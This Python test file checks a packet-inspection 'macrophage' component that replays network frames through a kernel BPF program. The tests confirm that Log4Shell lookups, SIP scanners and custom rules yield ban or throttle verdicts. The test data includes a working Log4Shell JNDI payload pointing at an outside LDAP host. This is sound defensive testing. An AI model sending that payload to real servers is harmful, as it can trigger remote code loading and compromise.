"""The macrophage in this process over the real sample ring: frames go through the kernel program, verdicts come out."""

import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from actors.core.errors import Refused
from actors.core.messages import Action, Ask, CellReport, CellState, Verdict
from actors.dermis import macrophage
from actors.dermis.inspection.packets import address_text, from_sample
from actors.dermis.inspection.samples import open_samples
from bpf.loader import KernelPlane
from bpf.pcap import Frame
from bpf.replay import Replayer, replay_plane
from config.settings import MacrophageSettings, Settings
from tests.support.core import Dish
from tests.support.packets import NODE6, PEER4, PEER6, PSH, SYN, TCP, UDP, ethernet, ip4, ip6, tcp, udp

pytestmark = pytest.mark.kernel

EVIL = b"GET /?q=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\n\r\n"


@pytest.fixture
def plane():
    made = replay_plane(flow_sets=1_024)
    yield made
    made.close()


class Wire:
    """Sends frames through the program, one microsecond apart."""

    def __init__(self, plane: KernelPlane) -> None:
        self._replayer, self._now = Replayer(plane), time.monotonic_ns()

    def send(self, *frames: bytes) -> None:
        self._now += 1_000
        self._replayer.feed([Frame(self._now, len(frame), frame) for frame in frames])


def over_tcp(data: bytes, source: str = PEER4, size: int = 9, dport: int = 80) -> list[bytes]:
    pieces = [tcp(SYN, seq=999, dport=dport)]
    pieces += [tcp(PSH | 16, data[at : at + size], seq=1_000 + at, dport=dport) for at in range(0, len(data), size)]
    return [ethernet(ip4(piece, TCP, source)) for piece in pieces]


def settings(tmp_path: Path, **fields: object) -> Settings:
    return Settings(
        state_dir=tmp_path / "state",
        bpf_dir=tmp_path / "no-pins",
        macrophage=MacrophageSettings(**fields),  # type: ignore[arg-type]
    )


@pytest.fixture
def dish(plane, tmp_path, monkeypatch):
    monkeypatch.setattr(macrophage, "open_samples", lambda bpf_dir, patience_s: plane.samples)
    dish = Dish(macrophage.Macrophage, settings(tmp_path), name="macrophage")
    dish.peer("permeability", Verdict)
    assert dish.run_until(lambda: "signatures" in dish.cell.gauges, 15)
    yield dish
    dish.cell.unwatch(plane.samples.fd)
    dish.stop()


def verdicts(dish: Dish, happened: Callable[[list[Verdict]], bool] = bool) -> list[Verdict]:
    dish.run_until(lambda: happened(dish.sent(Verdict, "permeability")), 3)
    return dish.sent(Verdict, "permeability")


def test_a_sample_keeps_the_ends_the_place_and_the_bytes(plane):
    wire = Wire(plane)

    wire.send(ethernet(ip6(tcp(SYN, seq=999), TCP), 0x86DD), ethernet(ip6(udp(b"hello", dport=53), UDP), 0x86DD))
    wire.send(ethernet(ip6(tcp(16, b"answer", seq=7, sport=443, dport=40_000), TCP, NODE6, PEER6), 0x86DD))
    packets = [from_sample(head, body) for head, body in plane.samples.read()]

    assert [(one.proto, one.payload) for one in packets] == [(UDP, b"hello"), (TCP, b"answer")]
    assert address_text(packets[0].source) == PEER6
    assert (packets[0].source_port, packets[0].dest_port, packets[0].initiator) == (40_000, 53, True)
    assert (packets[1].seq, packets[1].source_port, address_text(packets[1].dest)) == (7, 443, PEER6)


def test_a_signature_over_many_segments_becomes_one_verdict_with_evidence(dish, plane):
    Wire(plane).send(*over_tcp(EVIL + EVIL))

    [verdict] = verdicts(dish)

    assert (verdict.subject, verdict.action, verdict.origin) == (PEER4, Action.BAN, "macrophage")
    assert "log4shell-lookup" in verdict.reason
    assert "to tcp port 80" in verdict.evidence
    assert "${jndi:ldap:" in verdict.evidence
    assert verdict.score == 1.0


def test_many_senders_are_proposed_at_a_bounded_pace_and_none_is_forgotten(dish, plane):
    wire = Wire(plane)

    for number in range(12):
        wire.send(*over_tcp(EVIL, f"203.0.113.{number + 1}", size=1_400))
    began = time.monotonic()
    told = verdicts(dish, lambda sent: len(sent) == 12)

    assert len({verdict.subject for verdict in told}) == 12
    assert time.monotonic() - began >= 2 * macrophage.PROPOSE_EVERY_S


def test_a_datagram_never_leads_to_a_ban_because_its_sender_may_be_borrowed(dish, plane):
    scanner = b"OPTIONS sip:100@192.0.2.7 SIP/2.0\r\nUser-Agent: friendly-scanner\r\n"

    Wire(plane).send(ethernet(ip4(udp(scanner, dport=5060), UDP)))

    assert [verdict.action for verdict in verdicts(dish)] == [Action.THROTTLE]


def test_rules_are_listed_checked_and_reloaded_and_bad_ones_are_named(plane, tmp_path, monkeypatch):
    monkeypatch.setattr(macrophage, "open_samples", lambda bpf_dir, patience_s: plane.samples)
    folder = tmp_path / "rules"
    folder.mkdir()
    dish = Dish(macrophage.Macrophage, settings(tmp_path, rules=folder, signatures=folder), name="macrophage")
    dish.peer("permeability", Verdict)
    assert dish.run_until(lambda: "signatures" in dish.cell.gauges, 15)
    (folder / "local.rules").write_text(
        'drop tcp any any -> any 80 (msg:"found"; content:"xyzzy"; sid:1000001;)\nalert tcp nonsense\n'
    )
    (folder / "local.yaml").write_text("- name: half\n")

    checked = dish.ask("rules.check", limit_s=10)
    before = dish.ask("rules.list")["total"]
    reloaded = dish.ask("rules.reload", limit_s=10)
    Wire(plane).send(*over_tcp(b"say xyzzy"))

    assert before["rules"] == 0
    assert checked == reloaded
    assert reloaded["rules"] == 1
    assert {(problem["file"], problem["name"]) for problem in reloaded["problems"]} == {
        ("local.rules", "line 2, sid 0"),
        ("local.yaml", "half"),
    }
    assert verdicts(dish)[0].reason == "rule 1000001: found"
    text = dish.ask("rules.check", {"text": "alert x", "format": "suricata"})
    assert text["problems"][0]["name"] == "line 1, sid 0"
    with pytest.raises(Refused):
        dish.ask("rules.check", {"text": "x", "format": "prose"})
    dish.cell.unwatch(plane.samples.fd)
    dish.stop()


def test_without_a_ring_the_cell_is_off_and_asks_for_a_new_start_when_the_program_comes(tmp_path, monkeypatch):
    monkeypatch.setattr(macrophage, "PATIENCE_S", 0.0)
    monkeypatch.setattr(macrophage, "AGAIN_AFTER_S", 0.0)
    dish = Dish(macrophage.Macrophage, settings(tmp_path), name="macrophage")
    dish.peer("reflex_arc")
    dish.peer("basal_layer", answers=("cell.restart",))

    dish.run_until(lambda: dish.cell.state is CellState.OFF, 15)
    report = dish.last_report()
    dish.give(CellReport(cell="reflex_arc", state=CellState.HEALTHY), "reflex_arc")

    assert report.state is CellState.OFF
    assert "no sample ring" in report.reason
    assert report.remedy
    assert [ask.verb for ask in dish.sent(Ask)] == ["cell.restart"]
    dish.stop()


def test_without_hyperscan_it_is_degraded_and_still_finds(plane, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "hyperscan", None)
    monkeypatch.setattr(macrophage, "open_samples", lambda bpf_dir, patience_s: plane.samples)
    dish = Dish(macrophage.Macrophage, settings(tmp_path), name="macrophage")
    dish.peer("permeability", Verdict)
    assert dish.run_until(lambda: "signatures" in dish.cell.gauges, 15)

    Wire(plane).send(*over_tcp(EVIL))

    assert "log4shell-lookup" in verdicts(dish)[0].reason
    assert dish.last_report().state is CellState.DEGRADED
    dish.cell.unwatch(plane.samples.fd)
    dish.stop()


def test_a_place_without_pins_is_a_sentence(tmp_path):
    assert "no sample ring" in str(open_samples(tmp_path, 0.0))
